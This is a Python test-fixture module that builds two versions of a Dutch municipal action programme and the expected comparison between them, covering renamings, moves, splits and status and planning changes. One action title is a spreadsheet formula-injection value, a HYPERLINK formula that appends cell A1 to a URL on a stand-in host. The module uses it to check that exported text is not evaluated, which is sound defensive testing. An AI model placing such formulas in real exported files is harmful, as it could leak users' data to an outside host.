"""A small pair of programmes with every kind of change, and what a comparison finds in them.

The comparison is written out here, so that what is made of it does not hang on how it is found.
"""

from __future__ import annotations

from datetime import date
from functools import cache

from msgspec.structs import replace

from progress_report.comparison.compare import compare
from progress_report.comparison.counts import Compared, ComparisonFigures, comparison_figures
from progress_report.comparison.model import (
    Basis,
    BudgetProgrammeChange,
    Comparison,
    Direction,
    Doubt,
    Dropped,
    Found,
    Match,
    Move,
    Piece,
    Place,
    PlacedAction,
    PlanningChange,
    Renaming,
    Shift,
    StatusChange,
    WordingChange,
)
from progress_report.document.blocks import Document
from progress_report.document.open_data import open_data
from progress_report.figures import count
from progress_report.inlines import Text
from progress_report.model import CellLine, CellText, Programme, Status
from tests.documents import PROJECT, REAL_WORKBOOK, compose, programme_of, read_programme
from tests.everything import SECRET
from tests.workbooks import Sheets, minimal_sheets

HOSTILE = '=HYPERLINK("http://example.org?x="&A1;"klik")\n=1+1'
_HEADER = ["ID", "Thema", "Ambitie", "Nr", "Actie", "Programma", "Gepland", "Status"]
_HEADER += ["Status tijd", "Toelichting", "Verantwoordelijk", "Soort"]


def _sheets(explanation: str, *rows: list[object]) -> Sheets:
    """The rows, with in all of them what nobody compares."""
    sheets = minimal_sheets()
    own = [explanation, SECRET]
    sheets["Acties"] = [_HEADER, *([*row[:9], *own, *row[9:]] for row in rows)]
    return sheets


@cache
def earlier() -> Programme:
    """The programme as it was in 2022."""
    on, late, none = "op schema", "vertraagd", None
    sheets = _sheets(
        SECRET,
        ["W-01", "Wonen", "Betaalbaar", "1.", "Bouw woningen", "6", "2023", on, on],
        ["W-02", "Wonen", "Betaalbaar", "2.", "Maak een woonvisie", "6", "2023", on, on],
        [none, "Duurzaamheid", none, "1.", "Plant bomen", "8", "2024", on, on],
        ["D-02", "Duurzaamheid", none, "2.", "Isoleer dak en gevel", "8", "2024", on, none],
        ["D-03", "Duurzaamheid", none, "3.", "HOSTILE", "8 en 9", "Q2 2024", on, late],
        ["D-04", "Duurzaamheid", none, "4.", "Sluit het loket", none, none, none, none],
        ["D-05", "Duurzaamheid", none, "5.", "Doe mee", "8", "2026", on, none],
        ["D-06", "Duurzaamheid", none, "6.", "Ga door", "8", "doorlopend", on, none],
    )
    sheets["Rapport"][-1] = ["Peildatum", date(2022, 9, 1)]
    return _hostile(programme_of(sheets))


def _hostile(programme: Programme) -> Programme:
    """The programme with a text that Excel would run, which no cell of a workbook is read as."""
    first, last = programme.themes
    [group] = last.groups
    actions = tuple(
        replace(
            action, title=CellText(tuple(CellLine((Text(line),)) for line in HOSTILE.split("\n")))
        )
        if action.id == "D-03"
        else action
        for action in group.actions
    )
    theme = replace(last, groups=(replace(group, actions=actions),))
    return replace(programme, themes=(first, theme))


@cache
def later() -> Programme:
    """The programme as it is in 2024."""
    wonen, groen, on, none = "Wonen en leven", "Duurzaamheid", "op schema", None
    words = "Maak een korte woonvisie"
    late = "vertraagd"
    sheets = _sheets(
        "Loopt.",
        ["W-01", wonen, "Betaalbaar wonen", "1.", "Bouw woningen", "6", "2023", "afgerond", late],
        ["W-02", wonen, "Betaalbaar wonen", "2.", words, "6 en 8", "2025", late, on],
        ["D-05", wonen, none, "3.", "Doe mee", "8", "2025", none, none],
        ["D-01", groen, none, "1.", "Plant bomen in de wijk", "8", "2024", on, on],
        ["D-07", groen, none, "2.", "Plant struiken", "8", "2024", on, none],
        ["D-02", groen, none, "3.", "Isoleer:", none, none, none, none, "kop"],
        ["D-02a", groen, none, "a", "• het dak", "8", "2024", on, none],
        ["D-02b", groen, none, "b", "• de gevel", "8", "2025", on, none],
        ["D-06", groen, none, "4.", "Ga door", "8", "doorlopend", on, none],
        ["D-08", groen, none, "5.", "-Maak een link", "8", "2025", on, none],
    )
    sheets["Thema's"][1][1] = wonen
    return programme_of(sheets)


@cache
def comparison() -> Comparison:
    """Every kind of change, every way to be found, and doubt of both kinds of rival."""
    was, now = _rows(earlier()), _rows(later())
    wording = WordingChange(
        (Piece("Maak een woonvisie"),),
        (Piece("Maak een "), Piece("korte ", changed=True), Piece("woonvisie")),
    )
    bomen = WordingChange(
        (Piece("Plant bomen"),),
        (Piece("Plant bomen "), Piece("in de wijk", changed=True)),
    )
    return Comparison(
        basis=Basis(
            "programma 2022.xlsx",
            date(2022, 9, 1),
            date(2024, 4, 1),
            with_statuses=True,
            with_planning=True,
            status_columns=(0, 1),
        ),
        matches=(
            Match(
                was[2],
                now[2],
                Found.ID,
                statuses=(
                    _status(was[2], now[2], Direction.BETTER),
                    _status(was[2], now[2], Direction.WORSE, column=1),
                ),
            ),
            Match(
                was[3],
                now[3],
                Found.TEXT,
                doubt=Doubt.RIVAL,
                rival=was[7],
                rival_is_earlier=True,
                statuses=(_status(was[3], now[3], Direction.WORSE),),
                planning=PlanningChange(was[3].action.planned, now[3].action.planned, Shift.LATER),
                wording=wording,
                budget_programmes=BudgetProgrammeChange("6", "6 en 8"),
            ),
            Match(
                was[8],
                now[4],
                Found.ID,
                statuses=(_status(was[8], now[4], Direction.OTHER),),
                planning=PlanningChange(
                    was[8].action.planned, now[4].action.planned, Shift.EARLIER
                ),
                move=Move(was[8].place, now[4].place),
            ),
            Match(
                was[4],
                now[5],
                Found.LIKENESS,
                doubt=Doubt.LITTLE_ALIKE,
                rival=now[6],
                wording=bomen,
            ),
            Match(
                was[5],
                now[7],
                Found.ID,
                parts=(now[8], now[9]),
            ),
            Match(was[9], now[10], Found.PLACE),
        ),
        new=(now[6], now[11]),
        dropped=(
            Dropped(was[6], nearest=now[11]),
            Dropped(was[7], reason="@Raad: opgegaan in\n=D-05"),
        ),
        themes=(Renaming("Wonen", "Wonen en leven"),),
        ambitions=(Renaming("Betaalbaar", "Betaalbaar wonen", "Wonen en leven"),),
    )


@cache
def figures() -> ComparisonFigures:
    return comparison_figures(comparison(), earlier(), later())


def without_statuses_and_planning() -> Comparison:
    """The comparison with a programme that was just adopted."""
    found = comparison()
    basis = replace(found.basis, with_statuses=False, with_planning=False)
    matches = tuple(replace(match, statuses=(), planning=None) for match in found.matches)
    return replace(found, basis=basis, matches=matches)


def compared_document() -> Document:
    """A document that carries the data of the comparison; its text is that of a report without."""
    return _document(later(), comparison(), figures())


@cache
def real_comparison() -> Comparison:
    """What became of the measures of 2022, as the workbooks of the project have them."""
    programme_2022 = read_programme(PROJECT / "data" / "uitvoeringsprogramma-2022.xlsx")
    return compare(programme_2022, read_programme(REAL_WORKBOOK), "uitvoeringsprogramma-2022.xlsx")


@cache
def real_document() -> Document:
    """A document that carries the data of that."""
    programme_2022 = read_programme(PROJECT / "data" / "uitvoeringsprogramma-2022.xlsx")
    programme = read_programme(REAL_WORKBOOK)
    found = real_comparison()
    return _document(programme, found, comparison_figures(found, programme_2022, programme))


def _document(
    programme: Programme, found: Comparison, found_figures: ComparisonFigures
) -> Document:
    document, _ = compose(programme)
    source = document.data.report.source
    data = open_data(programme, count(programme), source, Compared(found, found_figures))
    return replace(document, open_data=data)


def _rows(programme: Programme) -> dict[int, PlacedAction]:
    """The rows by their number in the sheet."""
    return {
        action.row: PlacedAction(
            action, Place(theme.name, group.ambition.name if group.ambition else "")
        )
        for theme in programme.themes
        for group in theme.groups
        for action in group.actions
    }


def _status(
    was: PlacedAction, now: PlacedAction, direction: Direction, column: int = 0
) -> StatusChange:
    heading = later().status_columns[column]
    before, after = _of(was, column), _of(now, column)
    return StatusChange(heading, before, after, direction, leading=not column)


def _of(placed: PlacedAction, column: int) -> Status | None:
    return placed.action.statuses[column]
